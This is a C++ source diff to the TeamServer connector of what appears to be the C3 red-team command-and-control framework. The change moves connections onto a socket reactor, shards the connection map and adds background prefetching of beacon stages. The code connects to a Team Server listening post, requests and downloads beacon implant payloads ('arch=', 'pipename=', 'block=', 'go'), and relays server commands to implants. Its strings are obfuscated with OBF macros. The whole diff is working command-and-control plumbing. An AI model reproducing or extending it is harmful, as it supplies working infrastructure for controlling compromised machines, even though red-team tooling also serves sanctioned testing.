@@ -1,5 +1,8 @@
 #include "StdAfx.h"
+#include "Common/FSecure/Sockets/Socket.h"
+#include "Common/FSecure/Sockets/SocketReactor.h"
 #include "Common/FSecure/Sockets/SocketsException.h"
+#include <set>
 
 namespace FSecure::C3::Interfaces::Connectors
 {
@@ -53,36 +56,110 @@ namespace FSecure::C3::Interfaces::Connectors
 			/// @remarks throws FSecure::WinSocketsException on WinSockets error.
 			void Send(ByteView data);
 
-			/// Creates the receiving thread.
-			/// As long as connection is alive detached thread will pull available data from TeamServer.
-			/// @remarks to decrease traffic in network, heartbeat will not be pushed through network.
-			/// This class will automatically response with no-op, when TeamServer sends no-op
-			/// TeamServer is using heartbeat to handle chunked data. This logic will be instead performed by class handling beacon..
-			void StartUpdatingInSeparateThread();
+			/// Registers connection in reactor of TeamServer. Does nothing if connection is already served.
+			/// As long as connection is alive reactor will pull available data from TeamServer.
+			/// @param reactor reactor serving connections of TeamServer.
+			void StartUpdating(SocketReactor& reactor);
 
 			/// Reads data from Socket.
 			/// @return heartbeat read data.
 			ByteVector Receive();
 
-			/// Indicates that receiving thread was already started.
-			/// @returns true if receiving thread was started, false otherwise.
-			bool SecondThreadStarted();
+			/// Indicates that connection is served by reactor.
+			/// @returns true if StartUpdating was called, false otherwise.
+			bool IsUpdating() const;
+
+			/// Gets address of beacon.
+			/// @return RouteID in binary form. Valid as long as connection exists.
+			ByteView GetId() const;
+
+			/// Assigns connection staged in advance to a beacon. Must be called before connection is added to connection map.
+			/// @param id RouteID in binary form.
+			void SetId(ByteView id);
 
 		private:
 			/// Pointer to TeamServer instance.
 			std::weak_ptr<TeamServer> m_Owner;
 
+			/// Passes packet received from TeamServer to Binder.
+			/// @param packet received data.
+			/// @remarks to decrease traffic in network, heartbeat will not be pushed through network.
+			/// This class will automatically response with no-op, when TeamServer sends no-op
+			/// TeamServer is using heartbeat to handle chunked data. This logic will be instead performed by class handling beacon..
+			void OnReceive(ByteVector packet);
+
+			/// Called by reactor when TeamServer closed connection or it failed.
+			/// @param error exception that closed connection. Null if it was closed gracefully.
+			void OnClose(std::exception_ptr error);
+
 			/// A socket object used in communication with the Team Server.
-			SOCKET m_Socket;
+			std::shared_ptr<ClientSocket> m_Socket;
+
+			/// Registration in reactor. Set when connection is served by reactor.
+			std::shared_ptr<SocketReactor::Registration> m_Registration;
 
 			/// RouteID in binary form. Address of beacon in network.
 			ByteVector m_Id;
 
-			/// Indicates that receiving thread was already started.
-			bool m_SecondThreadStarted = false;
+			/// Access mutex for sending data to TeamServer.
+			std::mutex m_SendMutex;
+
+			/// Makes sure that connection is registered in reactor once, even if beacons send first packets concurrently.
+			std::once_flag m_StartUpdatingFlag;
 		};
 
-		/// Retrieves beacon payload from Team Server.
+		/// Part of connection map with its own lock, so that beacons don't serialize on a single mutex.
+		struct ConnectionShard
+		{
+			/// Access mutex for m_Connections. Lookups share it.
+			std::shared_mutex m_Mutex;
+
+			/// Connections keyed by their own Connection::GetId, so that lookups with binder id don't copy it.
+			std::unordered_map<ByteView, std::shared_ptr<Connection>> m_Connections;
+		};
+
+		/// Number of connection map parts.
+		static constexpr std::size_t s_ConnectionShardsCount = 16;
+
+		/// Gets part of connection map that holds a connection.
+		/// @param binderId address of beacon in network.
+		/// @return connection map part.
+		ConnectionShard& GetConnectionShard(ByteView binderId);
+
+		/// Finds connection.
+		/// @param binderId address of beacon in network.
+		/// @return connection or null if there is none.
+		std::shared_ptr<Connection> FindConnection(ByteView binderId);
+
+		/// Settings of beacon stage: architecture, pipe name and block time.
+		using StageSettings = std::tuple<bool, std::string, uint32_t>;
+
+		/// Connection to Team Server on which stage was already downloaded, waiting for a beacon to be assigned.
+		struct StagedSession
+		{
+			std::shared_ptr<Connection> m_Connection;																///< Connection without beacon's address.
+			ByteVector m_Payload;																					///< Stage served on the connection.
+			std::chrono::steady_clock::time_point m_StagedAt;														///< Time of downloading the stage.
+		};
+
+		/// Sessions staged in advance are not used after that time, as Team Server might have dropped them.
+		static constexpr std::chrono::minutes s_StagedSessionLifetime{ 5 };
+
+		/// Opens connection to Team Server and downloads beacon stage.
+		/// @param settings stage settings.
+		/// @return connection with payload.
+		StagedSession StageSession(StageSettings const& settings);
+
+		/// Takes session staged in advance.
+		/// @param settings stage settings.
+		/// @return session or nothing if there is no fresh session with such settings.
+		std::optional<StagedSession> TakeStagedSession(StageSettings const& settings);
+
+		/// Stages a session in background, unless one with the same settings is already waiting or being staged.
+		/// @param settings stage settings.
+		void PrefetchStagedSession(StageSettings const& settings);
+
+		/// Retrieves beacon payload from Team Server. Payload is taken from session staged in advance if possible, then another session is staged for the next beacon with the same settings.
 		/// @param binderId address of beacon in network.
 		/// @param pipename name of pipe hosted by beacon.
 		/// @param arch64 desired architecture of beacon.
@@ -109,14 +186,20 @@ namespace FSecure::C3::Interfaces::Connectors
 		/// Port of TeamServer.
 		uint16_t m_ListeningPostPort;
 
-		/// Access mutex for m_ConnectionMap.
-		std::mutex m_ConnectionMapAccess;
+		/// Serves connections of all beacons with one thread, so their count is not limited by threads of gateway.
+		std::shared_ptr<SocketReactor> m_Reactor;
 
-		/// Access mutex for sending data to TeamServer.
-		std::mutex  m_SendMutex;
+		/// Map of all connections split by hash of binder id.
+		std::array<ConnectionShard, s_ConnectionShardsCount> m_ConnectionShards;
 
-		/// Map of all connections.
-		std::unordered_map<std::string, std::shared_ptr<Connection>> m_ConnectionMap;
+		/// Access mutex for m_StagedSessions and m_PrefetchedSettings.
+		std::mutex m_StagedSessionsMutex;
+
+		/// Sessions staged in advance. One per settings that were already used.
+		std::map<StageSettings, StagedSession> m_StagedSessions;
+
+		/// Settings of sessions being staged in background.
+		std::set<StageSettings> m_PrefetchedSettings;
 	};
 }
 
@@ -125,27 +208,40 @@ FSecure::C3::Interfaces::Connectors::TeamServer::TeamServer(ByteView arguments)
 {
 	std::tie(m_ListeningPostAddress, m_ListeningPostPort) = arguments.Read<std::string, uint16_t>();
 	InitializeSockets();
+	m_Reactor = SocketReactor::Create();
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::C3::Interfaces::Connectors::TeamServer::~TeamServer()
 {
+	m_Reactor->Stop();
 	DeinitializeSockets();
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 void FSecure::C3::Interfaces::Connectors::TeamServer::OnCommandFromBinder(ByteView binderId, ByteView command)
 {
-	std::scoped_lock<std::mutex> lock(m_ConnectionMapAccess);
-
-	auto it = m_ConnectionMap.find(binderId);
-	if (it == m_ConnectionMap.end())
+	auto connection = FindConnection(binderId);
+	if (!connection)
 		throw std::runtime_error{OBF("Unknown connection")};
 
-	if (!(it->second->SecondThreadStarted()))
-		it->second->StartUpdatingInSeparateThread();
+	connection->StartUpdating(*m_Reactor);
+	connection->Send(command);
+}
 
-	it->second->Send(command);
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+FSecure::C3::Interfaces::Connectors::TeamServer::ConnectionShard& FSecure::C3::Interfaces::Connectors::TeamServer::GetConnectionShard(ByteView binderId)
+{
+	return m_ConnectionShards[std::hash<ByteView>{}(binderId) % s_ConnectionShardsCount];
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+std::shared_ptr<FSecure::C3::Interfaces::Connectors::TeamServer::Connection> FSecure::C3::Interfaces::Connectors::TeamServer::FindConnection(ByteView binderId)
+{
+	auto& shard = GetConnectionShard(binderId);
+	std::shared_lock lock{ shard.m_Mutex };
+	auto it = shard.m_Connections.find(binderId);
+	return it == shard.m_Connections.end() ? nullptr : it->second;
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
@@ -169,14 +265,80 @@ FSecure::ByteVector FSecure::C3::Interfaces::Connectors::TeamServer::GeneratePay
 	if (binderId.empty() || pipename.empty())
 		throw std::runtime_error{OBF("Wrong parameters, cannot create payload")};
 
-	auto connection = std::make_unique<Connection>( m_ListeningPostAddress, m_ListeningPostPort, std::static_pointer_cast<TeamServer>(shared_from_this()), binderId);
+	auto settings = StageSettings{ arch64, std::move(pipename), block };
+	auto session = TakeStagedSession(settings);
+	if (!session)
+		session = StageSession(settings);
+
+	PrefetchStagedSession(settings);
+
+	session->m_Connection->SetId(binderId);
+	auto& shard = GetConnectionShard(binderId);
+	auto id = session->m_Connection->GetId();
+	std::unique_lock lock{ shard.m_Mutex };
+	shard.m_Connections.emplace(id, std::move(session->m_Connection));
+	return std::move(session->m_Payload);
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+FSecure::C3::Interfaces::Connectors::TeamServer::StagedSession FSecure::C3::Interfaces::Connectors::TeamServer::StageSession(StageSettings const& settings)
+{
+	auto const& [arch64, pipename, block] = settings;
+	auto connection = std::make_shared<Connection>(m_ListeningPostAddress, m_ListeningPostPort, std::static_pointer_cast<TeamServer>(shared_from_this()));
 	connection->Send(ByteView{ OBF_STR("arch=") + (arch64 ? OBF("x64") : OBF("x86")) });
 	connection->Send(ByteView{ OBF("pipename=") + pipename });
 	connection->Send(ByteView{ OBF("block=") + std::to_string(block) });
 	connection->Send(ByteView{ OBF("go") });
 	auto payload = connection->Receive();
-	m_ConnectionMap.emplace(std::string{ binderId }, std::move(connection));
-	return payload;
+	return { std::move(connection), std::move(payload), std::chrono::steady_clock::now() };
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+std::optional<FSecure::C3::Interfaces::Connectors::TeamServer::StagedSession> FSecure::C3::Interfaces::Connectors::TeamServer::TakeStagedSession(StageSettings const& settings)
+{
+	std::scoped_lock lock{ m_StagedSessionsMutex };
+	auto it = m_StagedSessions.find(settings);
+	if (it == m_StagedSessions.end())
+		return {};
+
+	auto session = std::move(it->second);
+	m_StagedSessions.erase(it);
+	if (std::chrono::steady_clock::now() - session.m_StagedAt > s_StagedSessionLifetime)
+		return {};
+
+	return session;
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Connectors::TeamServer::PrefetchStagedSession(StageSettings const& settings)
+{
+	{
+		std::scoped_lock lock{ m_StagedSessionsMutex };
+		if (m_StagedSessions.count(settings) || !m_PrefetchedSettings.insert(settings).second)
+			return;
+	}
+
+	std::thread([weakSelf = std::weak_ptr<TeamServer>{ std::static_pointer_cast<TeamServer>(shared_from_this()) }, settings]
+	{
+		auto self = weakSelf.lock();
+		if (!self)
+			return;
+
+		std::optional<StagedSession> session;
+		try
+		{
+			session = self->StageSession(settings);
+		}
+		catch (std::exception& e)
+		{
+			self->GetBridge()->Log({ OBF_SEC("Failed to stage beacon in advance. ") + e.what(), LogMessage::Severity::Warning });
+		}
+
+		std::scoped_lock lock{ self->m_StagedSessionsMutex };
+		self->m_PrefetchedSettings.erase(settings);
+		if (session)
+			self->m_StagedSessions.emplace(settings, std::move(*session));
+	}).detach();
 }
 
 //////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
@@ -188,7 +350,9 @@ FSecure::ByteVector FSecure::C3::Interfaces::Connectors::TeamServer::GeneratePay
 
 FSecure::ByteVector FSecure::C3::Interfaces::Connectors::TeamServer::CloseConnection(ByteView arguments)
 {
-	m_ConnectionMap.erase(arguments);
+	auto& shard = GetConnectionShard(arguments);
+	std::unique_lock lock{ shard.m_Mutex };
+	shard.m_Connections.erase(arguments);
 	return {};
 }
 
@@ -276,31 +440,14 @@ const char* FSecure::C3::Interfaces::Connectors::TeamServer::GetCapability()
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::C3::Interfaces::Connectors::TeamServer::Connection::Connection(std::string_view listeningPostAddress, uint16_t listeningPostPort, std::weak_ptr<TeamServer> owner, std::string_view id)
 	: m_Owner(owner)
+	, m_Socket(std::make_shared<ClientSocket>(listeningPostAddress, listeningPostPort, Socket::LengthOrder::Host))			//< External C2 frames are prefixed with little-endian length.
 	, m_Id(ByteView{ id })
 {
-	sockaddr_in client;
-	client.sin_family = AF_INET;
-	client.sin_port = htons(listeningPostPort);
-	switch (InetPtonA(AF_INET, &listeningPostAddress.front(), &client.sin_addr.s_addr))									//< Mod to solve deprecation issue.
-	{
-	case 0:
-		throw std::invalid_argument(OBF("Provided Listening Post address in not a valid IPv4 dotted - decimal string or a valid IPv6 address."));
-	case -1:
-		throw FSecure::SocketsException(OBF("Couldn't convert standard text IPv4 or IPv6 address into its numeric binary form. Error code : ") + std::to_string(WSAGetLastError()) + OBF("."), WSAGetLastError());
-	}
-
-	// Attempt to connect.
-	if (INVALID_SOCKET == (m_Socket = socket(AF_INET, SOCK_STREAM, 0)))
-		throw FSecure::SocketsException(OBF("Couldn't create socket."), WSAGetLastError());
-
-	if (SOCKET_ERROR == connect(m_Socket, (struct sockaddr*) & client, sizeof(client)))
-		throw FSecure::SocketsException(OBF("Could not connect to ") + std::string{ listeningPostAddress } + OBF(":") + std::to_string(listeningPostPort) + OBF("."), WSAGetLastError());
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::C3::Interfaces::Connectors::TeamServer::Connection::~Connection()
 {
-	closesocket(m_Socket);
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
@@ -310,77 +457,95 @@ void FSecure::C3::Interfaces::Connectors::TeamServer::Connection::Send(ByteView
 	if (!owner)
 		throw std::runtime_error(OBF("Could not lock pointer to owner "));
 
-	std::unique_lock<std::mutex> lock{ owner->m_SendMutex };
-	// Write four bytes indicating the length of the next chunk of data.
-	DWORD chunkLength = static_cast<DWORD>(data.size());
-	if (SOCKET_ERROR == send(m_Socket, reinterpret_cast<char*>(&chunkLength), 4, 0))
-		throw FSecure::SocketsException(OBF("Error sending to Socket : ") + std::to_string(WSAGetLastError()) + OBF("."), WSAGetLastError());
-
-	// Write the chunk to socket.
-	if (SOCKET_ERROR == send(m_Socket, reinterpret_cast<const char*>(&data.front()), static_cast<int>(chunkLength), 0))
-		throw FSecure::SocketsException(OBF("Error sending to Socket : ") + std::to_string(WSAGetLastError()) + OBF("."), WSAGetLastError());
+	std::unique_lock<std::mutex> lock{ m_SendMutex };
+	m_Socket->Send(data);
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::ByteVector FSecure::C3::Interfaces::Connectors::TeamServer::Connection::Receive()
 {
-	DWORD chunkLength = 0, bytesRead;
-	if (SOCKET_ERROR == (bytesRead = recv(m_Socket, reinterpret_cast<char*>(&chunkLength), 4, 0)))
-		throw FSecure::SocketsException(OBF("Error receiving from Socket : ") + std::to_string(WSAGetLastError()) + ("."), WSAGetLastError());
-
-	if (!bytesRead || !chunkLength)
-		return {};																										//< The connection has been gracefully closed.
-
-	// Read in the result.
-	ByteVector buffer;
-	buffer.resize(chunkLength);
-	for (DWORD bytesReadTotal = 0; bytesReadTotal < chunkLength; bytesReadTotal += bytesRead)
-		switch (bytesRead = recv(m_Socket, reinterpret_cast<char*>(&buffer[bytesReadTotal]), chunkLength - bytesReadTotal, 0))
-		{
-		case 0:
-			return {};																									//< The connection has been gracefully closed.
-
-		case static_cast<DWORD>(SOCKET_ERROR):
-			throw FSecure::SocketsException(OBF("Error receiving from Socket : ") + std::to_string(WSAGetLastError()) + OBF("."), WSAGetLastError());
-		}
+	return m_Socket->Receive();
+}
 
-	return buffer;
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Connectors::TeamServer::Connection::StartUpdating(SocketReactor& reactor)
+{
+	std::call_once(m_StartUpdatingFlag, [&]
+	{
+		// Callbacks don't keep connection alive. Reactor stops serving it when connection is removed from the map.
+		auto weak = weak_from_this();
+		m_Registration = reactor.Add(m_Socket,
+			[weak](ByteVector packet) { if (auto self = weak.lock()) self->OnReceive(std::move(packet)); },
+			[weak](std::exception_ptr error) { if (auto self = weak.lock()) self->OnClose(error); });
+	});
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
-void FSecure::C3::Interfaces::Connectors::TeamServer::Connection::StartUpdatingInSeparateThread()
+void FSecure::C3::Interfaces::Connectors::TeamServer::Connection::OnReceive(ByteVector packet)
 {
-	m_SecondThreadStarted = true;
-	std::thread([this]()
+	auto owner = m_Owner.lock();
+	if (!owner)
+		return;
+
+	auto bridge = owner->GetBridge();
+	try
 	{
-		// Lock pointers.
-		auto owner = m_Owner.lock();
-		auto bridge = owner->GetBridge();
-		auto self = shared_from_this();
-		while (bridge->IsAlive() && self.use_count() > 1)
-		{
-			try
-			{
-				// Read packet and post it to Binder.
-				if (auto packet = Receive(); !packet.empty())
-				{
-					if (packet.size() == 1u && packet[0] == 0u)
-						Send(packet);
-					else
-						bridge->PostCommandToBinder(m_Id, packet);
-				}
-			}
-			catch (std::exception& e)
+		// Post packet to Binder.
+		if (packet.size() == 1u && packet[0] == 0u)
+			return Send(packet);
+
+		bridge->PostCommandToBinder(m_Id, packet);
+
+		// Stop reading while Route to beacon is congested. TCP flow control slows TeamServer down, instead of blocking reactor on the Channel.
+		if (!bridge->CanPostCommandToBinder(m_Id))
+			m_Registration->PauseUntil([owner = m_Owner, id = m_Id]()
 			{
-				bridge->Log({ e.what(), LogMessage::Severity::Error});
-			}
-		}
-	}).detach();
+				auto self = owner.lock();
+				return !self || self->GetBridge()->CanPostCommandToBinder(id);
+			});
+	}
+	catch (std::exception& e)
+	{
+		bridge->Log({ e.what(), LogMessage::Severity::Error });
+	}
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Connectors::TeamServer::Connection::OnClose(std::exception_ptr error)
+{
+	auto owner = m_Owner.lock();
+	if (!owner)
+		return;
+
+	try
+	{
+		if (error)
+			std::rethrow_exception(error);
+
+		owner->GetBridge()->Log({ OBF("TeamServer closed connection."), LogMessage::Severity::Warning });
+	}
+	catch (std::exception& e)
+	{
+		owner->GetBridge()->Log({ e.what(), LogMessage::Severity::Error });
+	}
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+bool FSecure::C3::Interfaces::Connectors::TeamServer::Connection::IsUpdating() const
+{
+	return m_Registration != nullptr;
 }
 
-bool FSecure::C3::Interfaces::Connectors::TeamServer::Connection::SecondThreadStarted()
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+FSecure::ByteView FSecure::C3::Interfaces::Connectors::TeamServer::Connection::GetId() const
+{
+	return m_Id;
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Connectors::TeamServer::Connection::SetId(ByteView id)
 {
-	return m_SecondThreadStarted;
+	m_Id = id;
 }
 
 FSecure::ByteVector FSecure::C3::Interfaces::Connectors::TeamServer::PeripheralCreationCommand(ByteView connectionId, ByteView data, bool isX64)